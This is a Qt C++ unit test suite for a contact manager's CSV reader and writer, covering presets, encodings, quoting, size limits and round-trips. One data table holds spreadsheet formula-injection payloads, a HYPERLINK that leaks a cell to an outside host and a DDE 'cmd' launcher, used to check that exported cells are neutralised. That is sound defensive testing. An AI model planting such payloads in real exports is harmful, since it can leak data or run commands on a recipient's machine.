#include <core/interchange/csv.h>
#include <core/interchange/importedcontact.h>

#include <QBuffer>
#include <QFile>
#include <QRandomGenerator>
#include <QTest>

using namespace interchange;

namespace {

// The whole of a small file, through the sink that keeps everything.
Result<ReadContacts> readAll(QIODevice &device, const QString &name, const CsvPreset *preset)
{
    ReadContacts read;
    const Result<void> done = readCsv(device, name, preset, keepingIn(read));
    if (!done)
        return done.failure();
    return read;
}

QString fixture(const QString &name)
{
    return QStringLiteral(PELMORA_SOURCE_DIR "/tests/data/interchange/") + name;
}

std::optional<ContactField> fieldNamed(const QString &name)
{
    for (int i = 0; i < contactFieldCount; ++i) {
        if (columnName(fieldAt(i)) == name)
            return fieldAt(i);
    }
    return std::nullopt;
}

// "" detects the preset, "map:FILE" loads a mapping fixture, else a preset's name.
Result<ReadContacts>
readFixture(const QString &name, const QString &preset, const QByteArray &content = {})
{
    QBuffer buffer;
    QFile file(fixture(name));
    QIODevice *device = &file;
    if (name.isEmpty()) {
        buffer.setData(content);
        device = &buffer;
    }
    if (!device->open(QIODevice::ReadOnly))
        return Failure{QStringLiteral("fixture missing: ") + name};
    if (preset.startsWith(u"map:")) {
        const Result<CsvPreset> mapping = loadCsvMapping(fixture(preset.mid(4)));
        if (!mapping)
            return Failure{mapping.error()};
        return readAll(*device, name, &*mapping);
    }
    if (preset.isEmpty())
        return readAll(*device, name, nullptr);
    const CsvPreset *named = csvPreset(preset);
    if (!named)
        return Failure{QStringLiteral("no preset ") + preset};
    return readAll(*device, name, named);
}

QString skipText(const SkippedEntry &skip)
{
    return QString::number(skip.line) + u' ' + skip.reason;
}

} // namespace

class TestCsv : public QObject
{
    Q_OBJECT

private slots:
    void readsFixtures_data();
    void readsFixtures();
    void badInputFailsOrSkips_data();
    void badInputFailsOrSkips();
    void programsFormatRoundTrips();
    void spreadsheetCells_data();
    void spreadsheetCells();
    void presetsReadWhatTheyWrite_data();
    void presetsReadWhatTheyWrite();
};

// fields: "contact-index field=value" (every field not listed is empty);
// extras: "contact-index text"; skips: "line reason".
void TestCsv::readsFixtures_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("preset");
    QTest::addColumn<int>("count");
    QTest::addColumn<QStringList>("fields");
    QTest::addColumn<QStringList>("extras");
    QTest::addColumn<QStringList>("skips");

    QTest::newRow("own format, BOM, quoted line break, detected")
        << "csv-pelmora.csv"
        << "" << 2
        << QStringList{"0 contactid=7",
                       "0 lastname=Doe",
                       "0 firstname=Jane",
                       "0 Middle=Q",
                       "0 Nick Name=JD",
                       "0 Address=12 Main St, Apt 4",
                       "0 State=IL",
                       "0 City=Springfield",
                       "0 Zip\\Postal Code=62701",
                       "0 Country=USA",
                       "0 Home Phone=555-0100",
                       "0 Work Phone=555-0101",
                       "0 Cell=555-0102",
                       "0 Fax=555-0103",
                       "0 Email Address 1=jane@example.org",
                       "0 Email Address 2=jd@example.org",
                       "0 Notes=Line one, \"quoted\"\r\nLine two",
                       "1 contactid=8",
                       "1 lastname=Roe",
                       "1 firstname=Richard"}
        << QStringList{} << QStringList{};
    QTest::newRow("webmail older: primary first, ::: lists, untyped phones, full name")
        << "csv-webmail-old.csv"
        << "" << 2
        << QStringList{"0 firstname=Jane",
                       "0 Middle=Q",
                       "0 lastname=Doe",
                       "0 Nick Name=JD",
                       "0 Notes=note one\r\nnote two",
                       "0 Email Address 1=jane@work.example",
                       "0 Email Address 2=jd@work.example",
                       "0 Cell=+1 555 0100",
                       "0 Home Phone=555 0101",
                       "0 Work Phone=555 0102",
                       "0 Address=12 Main St, Apt 4",
                       "0 City=Springfield",
                       "0 State=IL",
                       "0 Zip\\Postal Code=62701",
                       "0 Country=USA",
                       "1 firstname=Ada",
                       "1 lastname=Lovelace"}
        << QStringList{"0 E-mail (Home): jane@home.example", "0 Name: Jane Q Doe",
                       "0 Organization 1 - Name: Acme"}
        << QStringList{};
    QTest::newRow("webmail current: labels, fax, home address chosen")
        << "csv-webmail-current.csv"
        << "webmail" << 1
        << QStringList{"0 firstname=Ana",  "0 lastname=Silva", "0 Email Address 1=ana@x.example",
                       "0 Home Phone=111", "0 Fax=222",        "0 Address=Rua 2",
                       "0 City=Porto",     "0 Notes=Hi"}
        << QStringList{"0 Phone (Home): 333", "0 Address (Work): Rua 1, Lisboa"} << QStringList{};
    QTest::newRow("mail client: joined street, other phone to the first free")
        << "csv-mailclient-en.csv"
        << "" << 1
        << QStringList{"0 firstname=John",
                       "0 lastname=Smith",
                       "0 Address=1 Elm St, Suite 5",
                       "0 City=Boston",
                       "0 State=MA",
                       "0 Zip\\Postal Code=02101",
                       "0 Country=USA",
                       "0 Work Phone=617-555-0001",
                       "0 Fax=617-555-0009",
                       "0 Home Phone=617-555-0002",
                       "0 Email Address 1=j@x.example",
                       "0 Notes=hello"}
        << QStringList{"0 E-mail 3 Address: j3@x.example", "0 Company: Contoso"} << QStringList{};
    QTest::newRow("mail client: LF only, short and long rows")
        << "csv-mailclient-rows.csv"
        << "" << 2
        << QStringList{"0 firstname=Eve",
                       "0 lastname=Adams",
                       "1 firstname=Max",
                       "1 lastname=Power",
                       "1 Email Address 1=max@x.example",
                       "1 Work Phone=1",
                       "1 Home Phone=2",
                       "1 Fax=3",
                       "1 Cell=4",
                       "1 Address=Road 1",
                       "1 City=Town",
                       "1 State=ST",
                       "1 Zip\\Postal Code=999",
                       "1 Country=Land",
                       "1 Notes=n"}
        << QStringList{"1 Display Name: Max Power", "1 Column 17: surplus"} << QStringList{};
    QTest::newRow("German headers, windows-1252, semicolons")
        << "csv-mailclient-de-1252.csv"
        << "" << 1 << QStringList{"0 firstname=Jürgen",       "0 lastname=Müller",
                                  "0 Address=Hauptstraße 5",  "0 City=Köln",
                                  "0 Zip\\Postal Code=50667", "0 Home Phone=0221 1234",
                                  "0 Cell=0171 5678",         "0 Email Address 1=jm@x.example",
                                  "0 Notes=Grüße; 5 €"}
        << QStringList{} << QStringList{};
    QTest::newRow("UTF-16 with BOM, tabs")
        << "csv-utf16-tab.csv"
        << "" << 1
        << QStringList{"0 firstname=李", "0 lastname=王", "0 Email Address 1=wang@x.example",
                       "0 Notes=😀 ok"}
        << QStringList{} << QStringList{};
    QTest::newRow("mapping file") << "csv-mapped.csv"
                                  << "map:csv-mapping.txt" << 1
                                  << QStringList{"0 firstname=Kai", "0 lastname=Berg",
                                                 "0 Cell=0170 1", "0 Home Phone=030 2"}
                                  << QStringList{"0 Firma: ACME"} << QStringList{};
    QTest::newRow("quoting: doubled quotes, text after a closing quote, blank row")
        << "csv-quoting.csv"
        << "mailclient" << 2
        << QStringList{"0 firstname=Anne \"The Hammer\"", "0 lastname=O'Neil, Jr.",
                       "0 Notes=two\r\nlines, \"quoted\"", "1 firstname=Ca\"rl", "1 lastname=Doe"}
        << QStringList{} << QStringList{"4 text after the closing quote of column 1"};
    QTest::newRow("line breaks: one line in one-line fields, CR LF in notes")
        << "csv-line-breaks.csv"
        << "" << 1 << QStringList{"0 firstname=Ann, Marie",
                                  "0 lastname=Lee",
                                  "0 Address=1 Main St, Building B, Suite 5",
                                  "0 City=Spring, field",
                                  "0 Cell=555, 0100",
                                  "0 Notes=first\r\nsecond\r\nthird"}
        << QStringList{"0 Company: Acme\r\nInc"} << QStringList{};
}

void TestCsv::readsFixtures()
{
    QFETCH(QString, file);
    QFETCH(QString, preset);
    QFETCH(int, count);
    QFETCH(QStringList, fields);
    QFETCH(QStringList, extras);
    QFETCH(QStringList, skips);

    const Result<ReadContacts> read = readFixture(file, preset);
    QVERIFY2(read.ok(), qPrintable(read.error()));
    QCOMPARE(read->contacts.size(), count);

    QList<ContactValues> expected(count);
    for (const QString &entry : std::as_const(fields)) {
        const int contact = entry.section(u' ', 0, 0).toInt();
        const QString assignment = entry.section(u' ', 1);
        const auto field = fieldNamed(assignment.section(u'=', 0, 0));
        QVERIFY2(field, qPrintable(entry));
        expected[contact][fieldIndex(*field)] = assignment.section(u'=', 1);
    }
    QStringList gotExtras;
    for (qsizetype c = 0; c < read->contacts.size(); ++c) {
        for (int i = 0; i < contactFieldCount; ++i)
            QCOMPARE(read->contacts[c].values[i], expected[c][i]);
        for (const QString &extra : read->contacts[c].extras)
            gotExtras << QString::number(c) + u' ' + extra;
    }
    gotExtras.sort();
    extras.sort();
    QCOMPARE(gotExtras, extras);
    QStringList gotSkips;
    for (const SkippedEntry &skip : read->skipped)
        gotSkips << skipText(skip);
    QCOMPARE(gotSkips, skips);
}

void TestCsv::badInputFailsOrSkips_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QByteArray>("content"); // when file is empty
    QTest::addColumn<QString>("preset");
    // The failure's text must hold these; else the skips, "line reason".
    QTest::addColumn<QStringList>("failure");
    QTest::addColumn<QStringList>("skips");

    const QByteArray header = "First Name,Last Name\r\n";
    QByteArray wideHeader = header.chopped(2);
    QByteArray wideRow = "Ann,Lee";
    for (int i = 0; i < 10000; ++i) {
        wideHeader += ",Column";
        wideRow += ",x";
    }

    QTest::newRow("empty") << "csv-empty.csv" << QByteArray() << ""
                           << QStringList{"csv-empty.csv", "the file is empty"} << QStringList{};
    QTest::newRow("binary") << "csv-binary.csv" << QByteArray() << ""
                            << QStringList{"csv-binary.csv", "binary"} << QStringList{};
    QTest::newRow("unclosed quote")
        << "csv-unclosed-quote.csv" << QByteArray() << ""
        << QStringList{"csv-unclosed-quote.csv", "line 3: a quote opened here is never closed"}
        << QStringList{};
    QTest::newRow("header only") << "csv-header-only.csv" << QByteArray() << ""
                                 << QStringList{"csv-header-only.csv", "only a header"}
                                 << QStringList{};
    QTest::newRow("header no preset knows")
        << "csv-unknown-header.csv" << QByteArray() << ""
        << QStringList{"csv-unknown-header.csv", "line 1: no column of the header"}
        << QStringList{};
    QTest::newRow("mapping naming an unknown field")
        << "csv-mapped.csv" << QByteArray() << "map:csv-mapping-unknown.txt"
        << QStringList{"csv-mapping-unknown.txt", "line 2: unknown field \"Telephone\""}
        << QStringList{};
    QTest::newRow("10,000 columns in the header")
        << "" << wideHeader + "\r\n" + wideRow + "\r\n"
        << ""
        << QStringList{"line 1: the header cannot be read: the row has more than 1000 columns"}
        << QStringList{};
    QTest::newRow("10,000 columns in a row")
        << "" << header + wideRow + "\r\nBo,Ray\r\n"
        << "" << QStringList{} << QStringList{"2 the row has more than 1000 columns"};
    QTest::newRow("row over 1 MiB")
        << "" << header + "Ann," + QByteArray(csvMaxRowChars + 1, 'x') + "\r\nBo,Ray\r\n"
        << "" << QStringList{} << QStringList{"2 the row is longer than 1048576 characters"};
    QByteArray badRows = header;
    for (int i = 0; i < csvMaxSkipped + 1; ++i)
        badRows += "\"Ann\"x,Lee\r\n";
    QTest::newRow("more unreadable rows than kept")
        << "" << badRows << ""
        << QStringList{"more than 10000 rows cannot be read; the last on line 10002: text after"}
        << QStringList{};
    QTest::newRow("row with no field")
        << "" << QByteArray("First Name,Company\r\n,Acme\r\nBo,\r\n") << "" << QStringList{}
        << QStringList{"2 no column of the row holds one of the fields"};
}

void TestCsv::badInputFailsOrSkips()
{
    QFETCH(QString, file);
    QFETCH(QByteArray, content);
    QFETCH(QString, preset);
    QFETCH(QStringList, failure);
    QFETCH(QStringList, skips);

    const Result<ReadContacts> read = readFixture(file, preset, content);
    if (!failure.isEmpty()) {
        QVERIFY(!read.ok());
        for (const QString &part : std::as_const(failure))
            QVERIFY2(read.error().contains(part), qPrintable(read.error()));
        return;
    }
    QVERIFY2(read.ok(), qPrintable(read.error()));
    QStringList gotSkips;
    for (const SkippedEntry &skip : read->skipped)
        gotSkips << skipText(skip);
    QCOMPARE(gotSkips, skips);
    // The rows around a skipped one are still read.
    QCOMPARE(read->contacts.size(), 1);
}

// Random contacts written in the program's format read back with the same seventeen values,
// but for line breaks in one-line fields.
void TestCsv::programsFormatRoundTrips()
{
    const quint32 seed = qEnvironmentVariableIsSet("PELMORA_SEED")
                             ? quint32(qEnvironmentVariableIntValue("PELMORA_SEED"))
                             : QRandomGenerator::global()->generate();
    qInfo("round-trip seed %u (set PELMORA_SEED to repeat)", seed);
    QRandomGenerator random(seed);
    const QStringList pieces{"a",  "Z",    "7",  " ", "é",    "Ø",  "ß", "中", "文", "😀",
                             "🎉",  ",",    "\"", ";", "\r\n", "\t", "'", "\\", "=",  "#",
                             "\n", "\"\"", "\r", "€", "+",    "-",  "@", "(",  "/"};
    const CsvPreset &own = *csvPreset(QStringLiteral("pelmora"));

    QList<ContactValues> written;
    QByteArray bytes = csvHeader(own);
    for (int c = 0; c < 800; ++c) {
        ContactValues values;
        for (QString &value : values) {
            const int length = random.bounded(0, 30);
            for (int i = 0; i < length; ++i)
                value += pieces[random.bounded(int(pieces.size()))];
        }
        values[0] = QString::number(c + 1) + values[0];
        written << values;
        bytes += csvRow(values, own);
    }
    QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
    QCOMPARE(bytes.count("\xEF\xBB\xBF"), 1);

    QBuffer buffer(&bytes);
    QVERIFY(buffer.open(QIODevice::ReadOnly));
    const Result<ReadContacts> read = readAll(buffer, QStringLiteral("round trip"), nullptr);
    QVERIFY2(read.ok(), qPrintable(read.error()));
    QVERIFY(read->skipped.isEmpty());
    QCOMPARE(read->contacts.size(), written.size());
    for (qsizetype c = 0; c < written.size(); ++c) {
        QVERIFY(read->contacts[c].extras.isEmpty());
        for (int i = 0; i < contactFieldCount; ++i) {
            const QString expected
                = isOneLineField(fieldAt(i)) ? asOneLine(written[c][i]) : written[c][i];
            QCOMPARE(read->contacts[c].values[i].toUtf8(), expected.toUtf8());
        }
    }
}

void TestCsv::spreadsheetCells_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<QByteArray>("written"); // the cell in the file
    // What other programs that guard their cells may write for the same value; "" for none.
    QTest::addColumn<QByteArray>("guardedElsewhere");

    QTest::newRow("= formula") << R"c(=HYPERLINK("http://x.example/?"&A1,"Click"))c"
                               << QByteArray(
                                      R"c("'=HYPERLINK(""http://x.example/?""&A1,""Click"")")c")
                               << QByteArray();
    QTest::newRow("@ formula") << R"c(@SUM(1+1)*cmd|' /C calc'!A0)c"
                               << QByteArray(R"c('@SUM(1+1)*cmd|' /C calc'!A0)c") << QByteArray();
    QTest::newRow("+ formula") << "+A1+B1" << QByteArray("'+A1+B1") << QByteArray();
    QTest::newRow("- formula") << "-2+3" << QByteArray("'-2+3") << QByteArray();
    QTest::newRow("tab first") << "\t=1" << QByteArray("\"'\t=1\"") << QByteArray();
    QTest::newRow("carriage return first") << "\r=1" << QByteArray("\"'\r=1\"") << QByteArray();
    QTest::newRow("phone with brackets and dashes")
        << "+1 (555) 123-4567" << QByteArray("+1 (555) 123-4567")
        << QByteArray("'+1 (555) 123-4567");
    QTest::newRow("phone with dots and a slash")
        << "+49 30/1234.56" << QByteArray("+49 30/1234.56") << QByteArray("'+49 30/1234.56");
    QTest::newRow("+ and no digit is no phone") << "+ -" << QByteArray("'+ -") << QByteArray();
    QTest::newRow("phone with words is no phone")
        << "+1 555 ext 12" << QByteArray("'+1 555 ext 12") << QByteArray();
    QTest::newRow("user's own apostrophe") << "'quoted" << QByteArray("'quoted") << QByteArray();
    QTest::newRow("user's apostrophe before =") << "'=x" << QByteArray("''=x") << QByteArray();
    QTest::newRow("user's apostrophe before a phone")
        << "'+1 555" << QByteArray("''+1 555") << QByteArray();
    QTest::newRow("= inside") << "a=b" << QByteArray("a=b") << QByteArray();
}

// Written, a cell a spreadsheet would run is text; read back, every value is what it was.
void TestCsv::spreadsheetCells()
{
    QFETCH(QString, value);
    QFETCH(QByteArray, written);
    QFETCH(QByteArray, guardedElsewhere);
    const CsvPreset &own = *csvPreset(QStringLiteral("pelmora"));
    ContactValues values;
    values[fieldIndex(ContactField::ContactId)] = QStringLiteral("1");
    values[fieldIndex(ContactField::Notes)] = value;
    const auto rowWith = [](const QByteArray &cell) {
        QByteArrayList cells(contactFieldCount);
        cells[fieldIndex(ContactField::ContactId)] = "1";
        cells[fieldIndex(ContactField::Notes)] = cell;
        return cells.join(',') + "\r\n";
    };
    QCOMPARE(csvRow(values, own), rowWith(written));

    for (const QByteArray &cell : {written, guardedElsewhere}) {
        if (cell.isEmpty())
            continue;
        QByteArray bytes = csvHeader(own) + rowWith(cell);
        QBuffer buffer(&bytes);
        QVERIFY(buffer.open(QIODevice::ReadOnly));
        ReadContacts read;
        const Result<void> done
            = readCsv(buffer, QStringLiteral("cells.csv"), &own, interchange::keepingIn(read));
        QVERIFY2(done.ok(), qPrintable(done.error()));
        QCOMPARE(read.contacts.size(), 1);
        QCOMPARE(read.contacts[0].values[fieldIndex(ContactField::Notes)], value);
    }
}

void TestCsv::presetsReadWhatTheyWrite_data()
{
    QTest::addColumn<QString>("preset");
    QTest::newRow("webmail") << "webmail";
    QTest::newRow("mailclient") << "mailclient";
}

// A preset's header and rows read back with it, and are detected as it: every field but
// the id, which only the program's own format carries.
void TestCsv::presetsReadWhatTheyWrite()
{
    QFETCH(QString, preset);
    const CsvPreset *written = csvPreset(preset);
    QVERIFY(written);
    ContactValues values;
    for (int i = 0; i < contactFieldCount; ++i)
        values[i] = columnName(fieldAt(i)) + QStringLiteral(", \"é\"; 中");
    values[fieldIndex(ContactField::Notes)] += QStringLiteral("\r\nsecond line");
    QByteArray bytes = csvHeader(*written) + csvRow(values, *written);

    QBuffer buffer(&bytes);
    QVERIFY(buffer.open(QIODevice::ReadOnly));
    const Result<ReadContacts> read = readAll(buffer, QStringLiteral("preset.csv"), nullptr);
    QVERIFY2(read.ok(), qPrintable(read.error()));
    QCOMPARE(read->contacts.size(), 1);
    values[fieldIndex(ContactField::ContactId)].clear();
    for (int i = 0; i < contactFieldCount; ++i)
        QCOMPARE(read->contacts[0].values[i], values[i]);
    QCOMPARE(read->contacts[0].extras, QStringList());
}

QTEST_GUILESS_MAIN(TestCsv)
#include "tst_csv.moc"
